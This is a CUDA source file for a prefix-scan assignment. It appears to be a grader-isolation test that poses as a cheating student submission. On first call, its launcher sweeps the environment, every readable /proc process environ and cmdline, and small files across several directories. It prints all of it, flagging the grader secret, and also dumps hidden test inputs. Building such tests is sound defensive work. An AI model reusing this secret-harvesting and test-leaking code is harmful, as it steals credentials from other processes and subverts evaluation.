// ATTACK: learn the hidden cases (issue 21). The rubric hides every case but n=1/* and n=65537/*
//      and adds one no student saw; their seeds come from the instructor's secret, which grade
//      takes from PMPP_GRADER_SECRET. This launcher looks for that secret everywhere a runner can,
//      on its first call: its environment, /proc/self, /proc/1 and its parent's command line and
//      environment, every /proc/PID/environ and cmdline it can read, and the small files of its
//      working directory, /tmp, $HOME, /grader and / (two levels). It prints all of it on stdout,
//      and SECRET-FOUND where anything names PMPP_GRADER_SECRET. At every call it also prints the
//      case's n and first input values (CASE-DATA), as a student who wants the hidden inputs would.
//      The scan itself is correct (and deliberately slow).
// EXPECTED VERDICT: graded, every case passes; the secret is in no file under the test's work
//      directory (the runners' logs, which hold everything printed, included) and not in grade's
//      output; no SECRET-FOUND; student-results.json (a student's view) holds no CASE-DATA of a
//      hidden case, nothing of n=777777 or of the hidden speed case; the instructor's results.json
//      has them, in hidden_runner_output.

#include <cuda_runtime.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>

extern char** environ;  // the process's environment (global scope: a declaration in a namespace names another)

namespace {

// What a file holds, NULs as spaces, at most 64 KiB.
std::string file_text(const std::string& path)
{
    std::string text;
    if (FILE* f = std::fopen(path.c_str(), "rb")) {
        int c;
        while (text.size() < 65536 && (c = std::fgetc(f)) != EOF) text.push_back(c == 0 ? ' ' : static_cast<char>(c));
        std::fclose(f);
    }
    return text;
}

void report(const std::string& where, const std::string& text)
{
    if (text.empty()) return;
    std::printf("%s: %s\n", where.c_str(), text.c_str());
    if (text.find("PMPP_GRADER_SECRET") != std::string::npos) std::printf("SECRET-FOUND in %s\n", where.c_str());
}

void look_in_files(const std::string& dir, int depth)
{
    DIR* d = ::opendir(dir.c_str());
    if (!d) return;
    while (const dirent* entry = ::readdir(d)) {
        const std::string name = entry->d_name;
        if (name == "." || name == "..") continue;
        const std::string path = (dir == "/" ? "" : dir) + "/" + name;
        if (path == "/proc" || path == "/sys" || path == "/dev") continue;
        struct stat st {};
        if (::lstat(path.c_str(), &st) != 0) continue;
        if (S_ISDIR(st.st_mode) && depth > 0) look_in_files(path, depth - 1);
        if (S_ISREG(st.st_mode) && st.st_size < 4096) report("file " + path, file_text(path));
    }
    ::closedir(d);
}

void look_for_the_secret()
{
    if (const char* value = std::getenv("PMPP_GRADER_SECRET")) std::printf("SECRET-FOUND in getenv: %s\n", value);
    for (char** entry = environ; entry && *entry; ++entry) report("environ", *entry);
    const std::string parent = std::to_string(::getppid());
    for (const std::string pid : {std::string("self"), std::string("1"), parent})
        for (const char* what : {"cmdline", "environ"}) report("/proc/" + pid + "/" + what, file_text("/proc/" + pid + "/" + what));
    if (DIR* d = ::opendir("/proc")) {
        while (const dirent* entry = ::readdir(d)) {
            const std::string name = entry->d_name;
            if (name.find_first_not_of("0123456789") != std::string::npos) continue;
            for (const char* what : {"cmdline", "environ"})
                report("/proc/" + name + "/" + what, file_text("/proc/" + name + "/" + what));
        }
        ::closedir(d);
    }
    look_in_files(".", 2);
    look_in_files("/tmp", 2);
    if (const char* home = std::getenv("HOME")) look_in_files(home, 2);
    look_in_files("/grader", 2);
    look_in_files("/", 1);
    std::fflush(stdout);
}

// Correct but deliberately slow: 512 threads in all, each scanning whole 1024-element sections.
constexpr long long SECTION_SIZE = 1024;

__global__ void slow_section_scan(const float* in, float* out, int n)
{
    const long long sections = (n + SECTION_SIZE - 1) / SECTION_SIZE;
    for (long long s = blockIdx.x * static_cast<long long>(blockDim.x) + threadIdx.x; s < sections;
         s += static_cast<long long>(gridDim.x) * blockDim.x) {
        const long long begin = s * SECTION_SIZE, end = begin + SECTION_SIZE < n ? begin + SECTION_SIZE : n;
        float sum = 0.0f;
#pragma unroll 1
        for (long long i = begin; i < end; ++i) {
            sum += in[i];
            out[i] = sum;
        }
    }
}

bool looked = false;

}  // namespace

void scan_kogge_stone(const float* in, float* out, int n)
{
    if (n <= 0) return;
    if (!looked) {
        looked = true;
        look_for_the_secret();
    }
    float first[4] = {0, 0, 0, 0};
    cudaMemcpy(first, in, sizeof(float) * (n < 4 ? n : 4), cudaMemcpyDeviceToHost);
    std::printf("CASE-DATA n=%d first: %g %g %g %g\n", n, first[0], first[1], first[2], first[3]);
    std::fflush(stdout);
    slow_section_scan<<<16, 32>>>(in, out, n);
}
